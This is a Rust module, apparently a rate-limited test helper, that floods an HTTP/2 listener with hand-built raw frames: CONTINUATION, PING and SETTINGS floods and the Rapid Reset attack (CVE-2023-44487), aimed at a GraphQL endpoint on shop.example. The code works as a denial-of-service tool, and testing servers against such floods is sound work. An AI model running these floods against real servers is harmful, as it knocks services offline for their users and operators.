//! Clients that flood a listener with HTTP/2 frames, on a thread of their own.
//!
//! Raw frames (RFC 9113 §4.1), as no library sends what these must. The rate is fixed, so that the
//! flood takes no more of the machine than it would from another one.

use std::{
    io,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    runtime::Builder,
    sync::oneshot,
    task::JoinSet,
    time::{Instant, interval_at},
};

/// What the frames are.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Flood {
    /// A block of headers that goes on and on.
    Continuation,
    /// Each to be answered.
    Ping,
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Each to be acknowledged.
    Settings,
}

/// Connections, each of which is opened anew when it is cut off.
const N_CONNECTIONS: u32 = 16;
/// 16,000 frames a second, or pairs of frames, 50 at a time: many clients do not send in step.
const BURST: u32 = 50;
const PAUSE: Duration = Duration::from_millis(50);

/// A flood; it ends when it is stopped.
pub(crate) struct Flooding {
    stop: oneshot::Sender<()>,
    n_frames: Arc<AtomicU64>,
    thread: JoinHandle<io::Result<()>>,
}

impl Flooding {
    pub(crate) fn start(to: SocketAddr, flood: Flood) -> io::Result<Self> {
        let runtime = Builder::new_current_thread().enable_all().build()?;
        let n_frames = Arc::new(AtomicU64::new(0));
        let (stop, stopped) = oneshot::channel();
        let counted = Arc::clone(&n_frames);
        let thread = thread::spawn(move || {
            runtime.block_on(async {
                let mut all = JoinSet::new();
                for n in 0..N_CONNECTIONS {
                    let first = Instant::now() + PAUSE * n / N_CONNECTIONS;
                    all.spawn(pour(to, (flood, first), Arc::clone(&counted)));
                }
                let _told = stopped.await;
            });
            Ok(())
        });
        Ok(Self { stop, n_frames, thread })
    }

    /// Ends it; how many frames were sent.
    pub(crate) fn stop(self) -> u64 {
        let _gone = self.stop.send(());
        let _ended = self.thread.join();
        self.n_frames.load(Ordering::Relaxed)
    }
}

async fn pour(
    to: SocketAddr,
    (flood, first): (Flood, Instant),
    n_frames: Arc<AtomicU64>,
) -> io::Result<()> {
    let mut pauses = interval_at(first, PAUSE);
    loop {
        let (mut answers, mut stream) = TcpStream::connect(to).await?.into_split();
        let reading = tokio::spawn(async move {
            let mut thrown_away = [0; 16 * 1024];
            while answers.read(&mut thrown_away).await.is_ok_and(|n| n > 0) {}
        });
        let mut sent = stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await;
        let mut n = 0;
        while sent.is_ok() && !reading.is_finished() {
            pauses.tick().await;
            let frames: Vec<u8> = (n..n + BURST).flat_map(|it| flood.frames(it)).collect();
            n += BURST;
            sent = stream.write_all(&frames).await;
            n_frames.fetch_add(BURST.into(), Ordering::Relaxed);
        }
        reading.abort();
    }
}

impl Flood {
    fn frames(self, n: u32) -> Vec<u8> {
        let stream = n.wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff;
        match self {
            Self::Continuation if n == 0 => frame(HEADERS, 0, 1, REQUEST),
            Self::Continuation => frame(CONTINUATION, 0, 1, JUNK),
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::RapidReset => {
                let headers = frame(HEADERS, END_HEADERS, stream, REQUEST);
                [headers, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
            }
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let head = [length.get(1..).unwrap_or_default(), &[kind, flags], &stream.to_be_bytes()];
    [&head.concat(), payload].concat()
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// A POST to /graphql of shop.example (RFC 7541, static table and plain literals).
const REQUEST: &[u8] = b"\x83\x86\x04\x08/graphql\x01\x0cshop.example\x0f\x10\x10application/json";
/// One more header.
const JUNK: &[u8] = b"\x00\x05x-big\x20aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
